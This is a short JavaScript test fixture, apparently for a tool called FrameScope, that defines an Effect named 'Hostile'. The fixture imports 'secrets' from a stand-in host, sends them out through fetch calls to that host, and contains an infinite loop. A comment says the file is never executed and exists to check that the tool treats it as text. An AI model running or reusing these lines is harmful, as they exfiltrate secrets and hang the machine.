import { Effect } from '../../../src/runtime/effect.js'
import { secrets } from 'https://example.invalid/steal.js'

// Never run by FrameScope: the import, the fetch and the loop below stay text.
fetch('https://example.invalid/ping')
while (true) {}

export default new Effect({
  name: "Hostile",
  namespace: "unsupported",
  description: fetch('https://example.invalid/' + secrets),
  globals: {},
  passes: [],
})
